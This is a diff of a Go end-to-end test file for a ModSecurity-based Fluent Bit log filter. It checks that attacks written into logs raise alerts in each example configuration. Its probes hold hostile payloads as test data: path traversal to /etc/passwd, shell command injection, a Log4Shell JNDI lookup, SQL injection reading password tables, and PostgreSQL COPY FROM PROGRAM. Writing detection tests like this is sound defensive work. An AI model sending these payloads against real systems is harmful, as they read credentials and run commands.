@@ -1,89 +1,474 @@
 package e2e
 
 import (
+	"bytes"
+	"compress/gzip"
+	"encoding/json"
+	"fmt"
+	"io"
+	"log/slog"
 	"net"
+	"net/http"
 	"os"
+	"os/exec"
+	"path"
 	"path/filepath"
+	"regexp"
+	"slices"
+	"strconv"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/tinylib/msgp/msgp"
+
+	"github.com/modsecurity-for-anylog/msa/mapping"
+	"github.com/modsecurity-for-anylog/msa/pipeline"
 	"github.com/modsecurity-for-anylog/msa/test/rig"
 )
 
-// Every example runs, and an attack that is sent to it comes out of its syslog.
-func TestExamples(t *testing.T) {
-	if _, ok := rig.FluentBit(); !ok {
-		t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
+// probe is one way through an example: what its users would send to it, and what
+// must come out. What is harmless has that word in it.
+type probe struct {
+	in       string // udp, tcp or http and the example's port, or the log's file
+	attack   string
+	harmless string
+	record   func(sent string) string // in JSON, as the filter gets it; nil for what was sent, or in a log the line
+	metadata func(sent string) string // of the record, in JSON
+	tag      string                   // of the record
+	out      string                   // udp, tcp or http and the port at which alerts arrive
+	want     []string                 // in what arrives, and in the alerts
+	check    func(t *testing.T, arrived string)
+}
+
+// Messages of GELF have a line of a log, or a record of Nano's.
+func dockerGELF(line string) string {
+	return fmt.Sprintf(`{"version":"1.1","host":"node-1","short_message":%q,"timestamp":1795169472.482,"level":6,"_container_name":"nginx"}`, line)
+}
+
+func nanoGELF(t *testing.T, url string) string {
+	return regexp.MustCompile(`"([A-Z_]+)":`).ReplaceAllString(string(sample(t, url)), `"_$1":`)
+}
+
+// combined is a line of nginx's access log.
+func combined(client, url string) string {
+	return fmt.Sprintf(`%s - - [20/Nov/2026:10:11:12 +0000] "GET %s HTTP/1.1" 200 12 "-" "curl/8.5.0"`, client, url)
+}
+
+// ingress is a line of ingress-nginx's, as the container runtime writes it.
+func ingress(url string) string {
+	return fmt.Sprintf(`2026-11-20T10:11:12.482193+00:00 stdout F 203.0.113.24 - - [20/Nov/2026:10:11:12 +0000] "GET %s HTTP/1.1" 200 412 "-" "curl/8.5.0" 118 0.004 [shop-cart-80] [] 10.244.1.17:8080 412 0.004 200 2b0c7a9d51e84f66b1a3d0c2e7f49a18`, url)
+}
+
+// postgres is a line of PostgreSQL's jsonlog.
+func postgres(message string) string {
+	return fmt.Sprintf(`{"timestamp":"2026-11-20 10:11:12.482 UTC","user":"shop","dbname":"shop","pid":4711,"remote_host":"10.0.1.5","remote_port":40212,"session_id":"691ee4c0.1267","line_num":3,"error_severity":"LOG",%s,"application_name":"shop","backend_type":"client backend","query_id":0}`, message)
+}
+
+// otlp is a log record in OTLP's JSON.
+func otlp(path string) string {
+	return fmt.Sprintf(`{"resourceLogs":[{"resource":{"attributes":[{"key":"service.name","value":{"stringValue":"shop"}}]},"scopeLogs":[{"scope":{},"logRecords":[{"timeUnixNano":"1795169472482000000","severityNumber":9,"severityText":"INFO","body":{"stringValue":"request"},"attributes":[`+
+		`{"key":"http.request.method","value":{"stringValue":"GET"}},{"key":"url.path","value":{"stringValue":%q}},{"key":"client.address","value":{"stringValue":"10.0.0.7"}},{"key":"http.response.status_code","value":{"intValue":"404"}}]}]}]}]}`, path)
+}
+
+func otlpAttributes(sent string) string {
+	list := regexp.MustCompile(`"attributes":(\[\{"key":"http.*?\}\}\])`).FindStringSubmatch(sent)[1]
+	return `{"otlp":{"attributes":` + list + `}}`
+}
+
+// examples are the probes of each file in examples/ that runs.
+func examples(t *testing.T) map[string][]probe {
+	shop := func(path, header string) string {
+		return fmt.Sprintf(`{"ts":1717053408.9,"req":{"verb":"POST","target":%q,"hdr":[%q]},"peer":"10.0.0.7","body":"a=b"}`, path, header)
 	}
-	shop := []byte(`{"ts":1717053408.9,"req":{"verb":"POST","target":"/login?x=1","hdr":["${jndi:ldap://10.9.9.9/a}"]},"peer":"10.0.0.7","body":"a=b"}`)
-	refused := []byte(`{"SRC_IP":"10.0.0.7","DST_IP":"10.0.0.8","METHOD":"POST","URL":"/api/login","RETCODE":"401","DOMAIN":"users","FORWARD":"0.0.0.0"}`)
-	for _, c := range []struct {
-		file   string
-		record []byte
-		want   []string // each in one of the messages
-	}{
-		{"own-rules.conf", numbered(t, 1), []string{`"rule_id":"930100"`}},
-		{"annotate.conf", numbered(t, 1), []string{"/?n=1&t=../../etc/passwd"}},
-		{"threaded-processor.yaml", sample(t, "/internal/admin?t=../../etc/passwd"), []string{`"rule_id":"930100"`, `"rule_id":"100001"`}},
-		{"mapping.conf", shop, []string{`"src_ip":"10.0.0.7"`}},
-		{"access-log.conf", nil, []string{`"preset":"nginx"`}},
-		{"lateral-movement.conf", refused, []string{`"detector":"login-brute-force"`}},
-	} {
-		t.Run(c.file, func(t *testing.T) {
-			config, err := os.ReadFile(filepath.Join(rig.Root(), "examples", c.file))
-			if err != nil {
-				t.Fatal(err)
+	login := func(status, url string) string {
+		return fmt.Sprintf(`{"SRC_IP":"10.0.0.7","DST_IP":"10.0.0.8","METHOD":"POST","URL":%q,"RETCODE":%q,"DOMAIN":"users","FORWARD":"0.0.0.0"}`, url, status)
+	}
+	attack, harmless := string(numbered(t, 1)), string(sample(t, "/harmless?n=1"))
+	line, harmlessLine := combined("10.0.0.7", "/?t=../../etc/passwd"), combined("10.0.0.9", "/harmless?n=1")
+	line930 := []string{`rule_id":"930100"`, `preset":"nginx"`}
+	return map[string][]probe{
+		"nano-to-syslog.conf": {
+			{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "tcp 12201", want: []string{`"rule_id":"930100"`}},
+			{in: "udp 15155", tag: "nano", attack: `{"SRC_IP":"10.0.1.5","DST_IP":"10.0.1.9","SQL":"SELECT LOAD_FILE('/etc/passwd')","L7_PROTOCOL":"mysql"}`,
+				harmless: `{"SRC_IP":"10.0.1.5","DST_IP":"10.0.1.9","SQL":"SELECT name FROM harmless WHERE id = 1","L7_PROTOCOL":"mysql"}`,
+				out:      "tcp 12201", want: []string{`"preset":"nano-sql"`}},
+		},
+		"nginx-to-syslog.conf": {{in: "/var/log/nginx/access.log", tag: "access", attack: line, harmless: harmlessLine, out: "udp 12201", want: line930}},
+		"kubernetes-ingress.yaml": {{in: "/var/log/containers/ingress-nginx-controller-7d4b9c_ingress-nginx_controller-0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef.log",
+			tag: "kube.var.log.containers", attack: ingress("/ping?host=127.0.0.1;cat%20/etc/passwd"), harmless: ingress("/harmless?n=1"),
+			record: func(sent string) string {
+				_, line, _ := strings.Cut(sent, " stdout F ")
+				return fmt.Sprintf(`{"time":"2026-11-20T10:11:12.482193+00:00","stream":"stdout","_p":"F","log":%q}`, line)
+			},
+			out: "udp 12201", want: []string{`"rule_id":"930120"`, `"preset":"ingress-nginx"`}}},
+		"graylog.conf": {
+			{in: "udp 12202", tag: "gelf", attack: dockerGELF(line), harmless: dockerGELF(harmlessLine),
+				record: func(sent string) string { return strings.Replace(sent, `"short_message"`, `"log"`, 1) },
+				out:    "tcp 12201", want: line930, check: checkGELF},
+			{in: "udp 12202", tag: "gelf", attack: nanoGELF(t, ""), harmless: nanoGELF(t, "/harmless?n=1"), out: "tcp 12201", want: []string{`preset":"nano"`}},
+		},
+		"graylog.sh": {
+			{in: "tcp 12202", attack: nanoGELF(t, "") + "\x00", harmless: nanoGELF(t, "/harmless?n=1") + "\x00", out: "udp 12201", want: []string{`"rule_id":"930100"`}},
+			{in: "udp 12202", attack: zipped(t, nanoGELF(t, "/?zipped=../../etc/passwd")), harmless: zipped(t, nanoGELF(t, "/harmless?n=1")), out: "udp 12201", want: []string{"/?zipped="}},
+		},
+		"kafka.yaml": {{in: "kafka", tag: "kafka", attack: attack, harmless: harmless, out: "kafka", want: []string{`"rule_id":"930100"`}}},
+		"elasticsearch.conf": {{in: "/var/log/nginx/access.log", tag: "access", attack: line, harmless: harmlessLine, out: "http 9200",
+			want: []string{`"code":"930100"`, `"ip":"10.0.0.7"`}, check: checkBulk}},
+		"opentelemetry.yaml": {{in: "http 4318/v1/logs", tag: "otel", attack: otlp("/../../etc/passwd"), harmless: otlp("/harmless"),
+			record: func(string) string { return `{"log":"request"}` }, metadata: otlpAttributes,
+			out: "http 4319", want: []string{"930100", "opentelemetry", "10.0.0.7"}}},
+		"sql-audit.conf": {
+			{in: "/var/log/postgresql/postgresql.json", tag: "postgresql",
+				attack:   postgres(`"message":"execute <unnamed>: SELECT id FROM users WHERE name = $1","detail":"Parameters: $1 = 'x'' UNION SELECT usename, passwd FROM pg_user--'"`),
+				harmless: postgres(`"message":"execute <unnamed>: SELECT id, name FROM harmless WHERE name = $1 AND active = true ORDER BY id","detail":"Parameters: $1 = 'Ann O''Neill'"`),
+				out:      "udp 12201", want: []string{`"rule_id":"942190"`, "ARGS:parameters", `"preset":"postgresql"`}},
+			{in: "/var/log/postgresql/postgresql.json", tag: "postgresql",
+				attack:   postgres(`"message":"statement: COPY t FROM PROGRAM 'id'"`),
+				harmless: postgres(`"message":"statement: INSERT INTO harmless (id, at) VALUES (17, NOW())"`),
+				out:      "udp 12201", want: []string{`"rule_id":"100010"`}},
+		},
+		"multi-tenant.yaml": {
+			{in: "/var/log/tenant-a/access.log", tag: "tenantA.access", attack: combined("10.0.0.7", "/a?q=1'+UNION+SELECT+password+FROM+users--"),
+				harmless: combined("10.0.0.7", "/search?harmless=1'+UNION+SELECT+password+FROM+users--"), out: "udp 12201", want: []string{`"category":"sqli"`}},
+			{in: "/var/log/tenant-b/access.log", tag: "tenantB.access", attack: combined("10.0.0.7", "/internal/admin"),
+				harmless: combined("10.0.0.7", "/harmless?n=1"), out: "udp 12202", want: []string{`"rule_id":"100001"`}},
+		},
+		"uniwaf.sh": {{in: "udp 15155", attack: strings.NewReplacer("SRC_IP", "client", "URL", "uri").Replace(attack), harmless: harmless, out: "udp 12201",
+			want: []string{`"rule_id":"930100"`, `"src_ip":"192.168.1.105"`}}},
+		"annotate-and-route.conf": {{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "udp 12201", want: []string{"/?n=1&t=../../etc/passwd"}}},
+		"own-rules.conf":          {{in: "udp 15155", tag: "nano", attack: attack, harmless: harmless, out: "udp 12201", want: []string{`"rule_id":"930100"`}}},
+		"threaded-processor.yaml": {{in: "udp 15155", tag: "nano", attack: string(sample(t, "/internal/admin?t=../../etc/passwd")), harmless: harmless, out: "udp 12201",
+			want: []string{`"rule_id":"930100"`, `"rule_id":"100001"`}}},
+		"mapping.conf": {{in: "udp 15155", tag: "shop", attack: shop("/login?x=1", "${jndi:ldap://10.9.9.9/a}"), harmless: shop("/harmless", "b"), out: "udp 12201",
+			want: []string{`"src_ip":"10.0.0.7"`}}},
+		"lateral-movement.conf": {{in: "udp 15155", tag: "nano", attack: login("401", "/api/login"), harmless: login("200", "/harmless"), out: "udp 12201",
+			want: []string{`"detector":"login-brute-force"`}}},
+	}
+}
+
+func zipped(t *testing.T, text string) string {
+	var b bytes.Buffer
+	z := gzip.NewWriter(&b)
+	if _, err := io.WriteString(z, text); err != nil {
+		t.Fatal(err)
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.String()
+}
+
+// checkGELF checks that each message is one that Graylog takes.
+func checkGELF(t *testing.T, arrived string) {
+	for _, message := range strings.FieldsFunc(arrived, func(r rune) bool { return r == 0 }) {
+		var m struct {
+			Version, Host string
+			Short         string `json:"short_message"`
+			Level         *int
+		}
+		if err := json.Unmarshal([]byte(message), &m); err != nil || m.Version != "1.1" || m.Host == "" || m.Short == "" || m.Level == nil || *m.Level > 5 {
+			t.Errorf("no alert in GELF, %v: %s", err, message)
+		}
+	}
+}
+
+// checkBulk checks that what was sent to Elasticsearch are documents with ids of
+// their own, which are in the schema where an index would refuse other values.
+func checkBulk(t *testing.T, arrived string) {
+	lines := strings.Split(strings.TrimSpace(arrived), "\n")
+	for i := 0; i+1 < len(lines); i += 2 {
+		var action struct {
+			Create struct {
+				Index string `json:"_index"`
+				ID    string `json:"_id"`
 			}
-			syslog, err := net.ListenPacket("udp", "127.0.0.1:0")
-			if err != nil {
-				t.Fatal(err)
+		}
+		var doc struct {
+			Time  time.Time `json:"@timestamp"`
+			Log   any
+			Event struct {
+				ID, Kind string
+				Severity int
 			}
-			defer syslog.Close()
-			in, dir := freePort(t), t.TempDir()
-			log := filepath.Join(dir, "access.log")
-			if err := os.WriteFile(log, nil, 0o600); err != nil {
-				t.Fatal(err)
+			Source struct{ IP string }
+		}
+		if err := json.Unmarshal([]byte(lines[i]), &action); err != nil {
+			t.Fatalf("%v in %s", err, lines[i])
+		}
+		if err := json.Unmarshal([]byte(lines[i+1]), &doc); err != nil {
+			t.Fatalf("%v in %s", err, lines[i+1])
+		}
+		if action.Create.Index != "logs-msa.alert-default" || action.Create.ID != doc.Event.ID || doc.Event.ID == "" {
+			t.Errorf("%s for the event %s", lines[i], doc.Event.ID)
+		}
+		if doc.Log != nil || doc.Event.Kind != "alert" || doc.Time.Year() != 2026 || strings.Count(lines[i+1], `"@timestamp"`) != 1 {
+			t.Errorf("document %s", lines[i+1])
+		}
+	}
+}
+
+// exampleFiles are all files of examples/ that run.
+func exampleFiles(t *testing.T) []string {
+	t.Helper()
+	entries, err := os.ReadDir(filepath.Join(rig.Root(), "examples"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	var all []string
+	for _, e := range entries {
+		switch ext := filepath.Ext(e.Name()); {
+		case ext == ".sh", ext == ".conf", ext == ".yaml" && rig.IsYAML(exampleText(t, e.Name())):
+			all = append(all, e.Name())
+		}
+	}
+	return all
+}
+
+func exampleText(t *testing.T, name string) string {
+	t.Helper()
+	text, err := os.ReadFile(filepath.Join(rig.Root(), "examples", name))
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(text)
+}
+
+// Each file that runs has a probe, says which command runs it, and is in the table.
+func TestExamplesAreComplete(t *testing.T) {
+	files, probes, table := exampleFiles(t), examples(t), exampleText(t, "README.md")
+	for _, name := range files {
+		command := "\n#   fluent-bit -e build/flb-filter_msa.so -c examples/" + name + "\n"
+		if strings.HasSuffix(name, ".sh") {
+			command = "\n#   sh examples/" + name + "\n"
+		}
+		if len(probes[name]) == 0 {
+			t.Errorf("examples/%s has no probe: add one to examples()", name)
+		}
+		if !strings.Contains(exampleText(t, name), command) {
+			t.Errorf("examples/%s does not say %q", name, strings.TrimSpace(command))
+		}
+		if n := strings.Count(table, "]("+name+")"); n != 1 {
+			t.Errorf("examples/README.md has %s %d times", name, n)
+		}
+	}
+	for name := range probes {
+		if !slices.Contains(files, name) {
+			t.Errorf("there is no examples/%s", name)
+		}
+	}
+}
+
+// Every example runs, in a real Fluent Bit or as the script that it is: an attack that is sent
+// to it comes out where its comment says, and what is harmless does not.
+func TestExamples(t *testing.T) {
+	for name, probes := range examples(t) {
+		t.Run(name, func(t *testing.T) {
+			if _, ok := rig.FluentBit(); !ok && !strings.HasSuffix(name, ".sh") {
+				t.Skip("no Fluent Bit: set $FLUENT_BIT or PATH")
 			}
-			text := strings.NewReplacer("/var/log/nginx/access.log", log, "/var/lib/msa", dir).Replace(string(config))
-			fluentBit(t, dir, rig.WithPorts(text, map[int]int{
-				15155: in, 12201: syslog.LocalAddr().(*net.UDPAddr).Port, 2021: freePort(t),
-			}))
-			missing := map[string]bool{}
-			for _, w := range c.want {
-				missing[w] = true
+			if name == "kafka.yaml" {
+				dryRun(t, name, "kafka")
+				return
 			}
-			buf := make([]byte, 64<<10)
-			for end := time.Now().Add(20 * time.Second); len(missing) > 0 && time.Now().Before(end); {
-				if c.record == nil {
-					appendLine(t, log, `10.0.0.7 - - [20/Nov/2026:10:11:12 +0000] "GET /?t=../../etc/passwd HTTP/1.1" 200 12 "-" "curl/8.5.0"`)
-				} else if conn, err := net.DialUDP("udp", nil, &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1), Port: in}); err == nil {
-					_, _ = conn.Write(c.record)
-					_ = conn.Close()
+			t.Parallel()
+			dir, ports := t.TempDir(), map[int]int{2021: freePort(t)}
+			here := strings.NewReplacer("/var/log/", dir+"/", "/var/lib/msa", dir)
+			arrived := map[string]*rig.Output{}
+			senders := make([]func(string), len(probes))
+			for i, p := range probes {
+				if arrived[p.out] == nil {
+					kind, port := way(t, p.out)
+					arrived[p.out] = new(rig.Output)
+					ports[port] = receive(t, kind, arrived[p.out])
 				}
-				if err := syslog.SetReadDeadline(time.Now().Add(700 * time.Millisecond)); err != nil {
-					t.Fatal(err)
+				senders[i] = sender(t, here.Replace(p.in), ports)
+			}
+			program := startExample(t, dir, name, rig.WithPorts(here.Replace(exampleText(t, name)), ports))
+			if err := rig.Wait(40*time.Second, func() error {
+				if !program.Running() {
+					t.Fatal("it has ended")
 				}
-				n, _, err := syslog.ReadFrom(buf)
-				if err != nil {
-					continue
+				for i, p := range probes {
+					senders[i](p.harmless)
+					senders[i](p.attack)
 				}
-				for w := range missing {
-					if strings.Contains(string(buf[:n]), w) {
-						delete(missing, w)
+				time.Sleep(500 * time.Millisecond)
+				for _, p := range probes {
+					for _, want := range p.want {
+						if !strings.Contains(arrived[p.out].String(), want) {
+							return fmt.Errorf("no %s at %s", want, p.out)
+						}
 					}
 				}
+				return nil
+			}); err != nil {
+				t.Error(err)
 			}
-			if len(missing) > 0 {
-				t.Errorf("no message with %v", missing)
+			for _, p := range probes {
+				text := arrived[p.out].String()
+				if strings.Contains(text, "harmless") {
+					t.Errorf("an alert of what is harmless: %.3000s", text)
+				}
+				if p.check != nil {
+					p.check(t, text)
+				}
+			}
+			if strings.Contains(program.Output(), "pass uninspected") {
+				t.Error("some records were not inspected")
 			}
 		})
 	}
-	// An example that no case above runs is an example that nobody tried.
-	files, err := filepath.Glob(filepath.Join(rig.Root(), "examples", "*.conf"))
-	if err != nil || len(files) != 5 {
-		t.Errorf("%d examples, %v: add a case", len(files), err)
+}
+
+// dryRun has Fluent Bit check an example whose plugin needs a server.
+func dryRun(t *testing.T, name, plugin string) {
+	t.Helper()
+	fluentBit, _ := rig.FluentBit()
+	help, err := exec.Command(fluentBit, "--help").CombinedOutput()
+	if err != nil {
+		t.Fatal(err)
 	}
+	if !regexp.MustCompile(`(?m)^  ` + plugin + ` `).Match(help) {
+		t.Skipf("Fluent Bit was built without %s", plugin)
+	}
+	check := exec.Command(fluentBit, "-e", filepath.Join(rig.Root(), "build/flb-filter_msa.so"), "--dry-run", "-c", "examples/"+name)
+	check.Dir = rig.Root()
+	if out, err := check.CombinedOutput(); err != nil {
+		t.Errorf("%v\n%s", err, out)
+	}
+}
+
+// way parts a probe's way into its kind and port.
+func way(t *testing.T, text string) (kind string, port int) {
+	t.Helper()
+	kind, rest, _ := strings.Cut(text, " ")
+	number, _, _ := strings.Cut(rest, "/")
+	port, err := strconv.Atoi(number)
+	if err != nil {
+		t.Fatalf("no port in %q", text)
+	}
+	return kind, port
+}
+
+// receive opens a port that takes down all that arrives.
+func receive(t *testing.T, kind string, all *rig.Output) (port int) {
+	t.Helper()
+	if kind == "udp" {
+		conn, err := net.ListenPacket("udp", "127.0.0.1:0")
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { _ = conn.Close() })
+		go func() {
+			buf := make([]byte, 64<<10)
+			for {
+				n, _, err := conn.ReadFrom(buf)
+				if err != nil {
+					return
+				}
+				_, _ = all.Write(append(buf[:n:n], '\n'))
+			}
+		}()
+		return conn.LocalAddr().(*net.UDPAddr).Port
+	}
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { _ = l.Close() })
+	if kind == "http" {
+		go func() { _ = http.Serve(l, taker(all)) }()
+		return l.Addr().(*net.TCPAddr).Port
+	}
+	go func() {
+		for {
+			conn, err := l.Accept()
+			if err != nil {
+				return
+			}
+			go func() {
+				defer conn.Close()
+				_, _ = io.Copy(all, conn)
+			}()
+		}
+	}()
+	return l.Addr().(*net.TCPAddr).Port
+}
+
+// taker answers as Elasticsearch's _bulk does when it has created all documents, and as OTLP's receivers do.
+func taker(all *rig.Output) http.Handler {
+	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		body, err := io.ReadAll(r.Body)
+		if err != nil {
+			http.Error(w, err.Error(), http.StatusBadRequest)
+			return
+		}
+		_, _ = all.Write(body)
+		w.Header().Set("Content-Type", "application/json")
+		if path.Base(r.URL.Path) != "_bulk" {
+			_, _ = io.WriteString(w, "{}")
+			return
+		}
+		items := strings.Repeat(`,{"create":{"status":201}}`, bytes.Count(body, []byte(`{"create":`)))
+		_, _ = fmt.Fprintf(w, `{"took":1,"errors":false,"items":[%s]}`, strings.TrimPrefix(items, ","))
+	})
+}
+
+// sender sends the way that a probe says. While nobody listens yet, what is sent is lost.
+func sender(t *testing.T, in string, ports map[int]int) func(string) {
+	t.Helper()
+	if strings.HasPrefix(in, "/") {
+		if err := os.MkdirAll(filepath.Dir(in), 0o700); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(in, nil, 0o600); err != nil {
+			t.Fatal(err)
+		}
+		return func(line string) { appendLine(t, in, line) }
+	}
+	kind, port := way(t, in)
+	if ports[port] == 0 {
+		ports[port] = freePort(t)
+	}
+	at := fmt.Sprintf("127.0.0.1:%d", ports[port])
+	if kind == "http" {
+		_, path, _ := strings.Cut(in, "/")
+		return func(text string) {
+			if r, err := http.Post("http://"+at+"/"+path, "application/json", strings.NewReader(text)); err == nil {
+				_ = r.Body.Close()
+			}
+		}
+	}
+	return func(text string) {
+		if conn, err := net.Dial(kind, at); err == nil {
+			_, _ = io.WriteString(conn, text)
+			_ = conn.Close()
+		}
+	}
+}
+
+// startExample runs an example's text.
+func startExample(t *testing.T, dir, name, text string) *rig.Process {
+	t.Helper()
+	if !strings.HasSuffix(name, ".sh") {
+		return fluentBit(t, dir, text)
+	}
+	script := filepath.Join(dir, name)
+	if err := os.WriteFile(script, []byte(text), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	p, err := rig.Start(rig.Root(), "sh", script)
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() {
+		_ = p.Stop(20 * time.Second)
+		if t.Failed() {
+			t.Logf("it printed:\n%s", tail(p.Output(), 40))
+		}
+	})
+	return p
 }
 
 func appendLine(t *testing.T, file, line string) {
@@ -96,4 +481,181 @@ func appendLine(t *testing.T, file, line string) {
 	if _, err := f.WriteString(line + "\n"); err != nil {
 		t.Fatal(err)
 	}
+}
+
+// kafkaKeys are the properties of Fluent Bit's kafka input and output in 5.0's manual that examples may use.
+var kafkaKeys = []string{"name", "match", "tag", "brokers", "topics", "group_id", "client_id", "format", "message_key_field", "timestamp_key"}
+
+// Without Fluent Bit: the filters of each example have valid properties, and find the attack and nothing else in the
+// record that the inputs make of what is sent. Alerts have a tag that an output takes.
+func TestFiltersOfExamples(t *testing.T) {
+	t.Chdir(rig.Root())
+	engines := &pipeline.Engines{}
+	for name, probes := range examples(t) {
+		if strings.HasSuffix(name, ".sh") {
+			continue // TestExamples runs it
+		}
+		t.Run(name, func(t *testing.T) {
+			state := t.TempDir()
+			sections, err := rig.Sections(strings.ReplaceAll(exampleText(t, name), "/var/lib/msa", state))
+			if err != nil {
+				t.Fatal(err)
+			}
+			var filters []exampleFilter
+			for _, s := range sections {
+				switch s.Get("name") {
+				case "msa":
+					filters = append(filters, newExampleFilter(t, s, sections, engines))
+				case "kafka":
+					for key := range s.Keys {
+						if !slices.Contains(kafkaKeys, key) {
+							t.Errorf("%s kafka: %s is not a known property", s.Kind, key)
+						}
+					}
+				}
+			}
+			for _, p := range probes {
+				if !slices.ContainsFunc(sections, func(s rig.Section) bool { return s.Kind == "input" && matches(s.Get("tag"), p.tag) }) {
+					t.Errorf("no input has the tag %s", p.tag)
+				}
+				var found strings.Builder
+				for _, f := range filters {
+					if matches(f.match, p.tag) {
+						f.process(t, p, &found)
+					}
+				}
+				for _, want := range p.want {
+					if !strings.Contains(found.String(), want) {
+						t.Errorf("no %s in the alerts of %s\n%s", want, p.attack, found.String())
+					}
+				}
+				if strings.Contains(found.String(), "harmless") {
+					t.Errorf("an alert of what is harmless: %s", found.String())
+				}
+			}
+		})
+	}
+}
+
+type exampleFilter struct {
+	match, annotate string
+	pipeline        *pipeline.Pipeline
+	outputs         []string // what they match
+}
+
+func newExampleFilter(t *testing.T, s rig.Section, all []rig.Section, engines *pipeline.Engines) exampleFilter {
+	t.Helper()
+	known := []string{"name", "match", "alias"}
+	for _, p := range pipeline.Properties() {
+		known = append(known, p.Name)
+	}
+	for key := range s.Keys {
+		if !slices.Contains(known, key) {
+			t.Errorf("msa has no property %q", key)
+		}
+	}
+	config, err := pipeline.ParseConfig(func(name string) []string { return s.Keys[name] })
+	if err != nil {
+		t.Fatal(err)
+	}
+	p, err := pipeline.New(config, engines, slog.New(slog.DiscardHandler))
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(p.Close)
+	f := exampleFilter{match: s.Get("match"), annotate: config.Annotate, pipeline: p}
+	for _, o := range all {
+		if o.Kind == "output" {
+			f.outputs = append(f.outputs, o.Get("match"))
+		}
+	}
+	return f
+}
+
+// process writes the alerts of a probe's records, and the records that are annotated as attacks. The attack comes often,
+// as detectors want it.
+func (f exampleFilter) process(t *testing.T, p probe, found *strings.Builder) {
+	t.Helper()
+	chunk := p.event(t, p.harmless)
+	for range 8 {
+		chunk = append(chunk, p.event(t, p.attack)...)
+	}
+	result := f.pipeline.Process(p.tag, chunk)
+	for _, a := range result.Alerts {
+		if !slices.ContainsFunc(f.outputs, func(match string) bool { return matches(match, a.Tag) }) {
+			t.Errorf("no output for the alerts' tag %s", a.Tag)
+		}
+		for _, record := range recordsOf(t, a.Events) {
+			writeJSON(t, found, record)
+		}
+	}
+	if f.annotate == "" {
+		return
+	}
+	for _, record := range recordsOf(t, result.Chunk) {
+		if verdict, ok := record[f.annotate].(map[string]any); ok && verdict["alert"] == "true" {
+			writeJSON(t, found, record)
+		}
+	}
+}
+
+// event is what was sent, as a filter gets it.
+func (p probe) event(t *testing.T, sent string) []byte {
+	t.Helper()
+	record, metadata := sent, "{}"
+	switch {
+	case p.record != nil:
+		record = p.record(sent)
+	case strings.HasPrefix(p.in, "/"):
+		record = fmt.Sprintf(`{"log":%q}`, sent)
+	}
+	if p.metadata != nil {
+		metadata = p.metadata(sent)
+	}
+	b := msgp.AppendArrayHeader(nil, 2)
+	b = msgp.AppendArrayHeader(b, 2)
+	b = msgp.AppendInt64(b, 1795169472)
+	for _, text := range []string{metadata, record} {
+		var err error
+		if b, _, err = mapping.AppendJSON(b, []byte(text)); err != nil {
+			t.Fatalf("%v in %s", err, text)
+		}
+	}
+	return b
+}
+
+// recordsOf are those of events.
+func recordsOf(t *testing.T, events []byte) []map[string]any {
+	t.Helper()
+	var all []map[string]any
+	for len(events) > 0 {
+		var record map[string]any
+		_, rest, err := msgp.ReadArrayHeaderBytes(events)
+		if err == nil {
+			rest, err = msgp.Skip(rest)
+		}
+		if err == nil {
+			record, rest, err = msgp.ReadMapStrIntfBytes(rest, nil)
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		all, events = append(all, record), rest
+	}
+	return all
+}
+
+// writeJSON writes a record as outputs do, who leave & and < as they are.
+func writeJSON(t *testing.T, w io.Writer, record map[string]any) {
+	t.Helper()
+	e := json.NewEncoder(w)
+	e.SetEscapeHTML(false)
+	if err := e.Encode(record); err != nil {
+		t.Fatal(err)
+	}
+}
+
+// matches reports whether a pattern of Fluent Bit's matches a tag.
+func matches(pattern, tag string) bool {
+	return regexp.MustCompile("^" + strings.ReplaceAll(regexp.QuoteMeta(pattern), `\*`, ".*") + "$").MatchString(tag)
 }
